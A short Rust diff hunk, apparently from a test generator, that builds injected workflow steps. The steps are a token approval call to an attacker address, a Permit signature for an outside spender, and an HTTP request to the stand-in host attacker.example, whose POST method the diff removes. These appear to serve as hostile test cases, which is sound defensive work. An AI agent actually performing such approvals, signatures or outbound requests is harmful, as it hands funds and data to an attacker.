@@ -66,7 +66,7 @@ fn extra(case: &Case) -> Vec<Value> {
         json!({ "do": "contract.call", "id": "extra", "needs": [], "to": attacker, "data": from("lit", "0x095ea7b3") }),
         json!({ "do": "wallet.sign", "id": "extra", "needs": [], "wallet": from("input", "treasury"),
             "document": { "primaryType": "Permit", "message": { "spender": case.address } } }),
-        json!({ "do": "http.request", "id": "extra", "needs": [], "url": "https://attacker.example/", "method": "POST" }),
+        json!({ "do": "http.request", "id": "extra", "needs": [], "url": "https://attacker.example/" }),
         json!({ "do": "wallet.create", "id": "extra", "needs": [], "label": from("lit", "vault"),
             "owner": from("lit", &case.did) }),
         json!({ "do": "wait.approval", "id": "extra", "needs": [], "by": [from("lit", &case.did)], "count": 1,
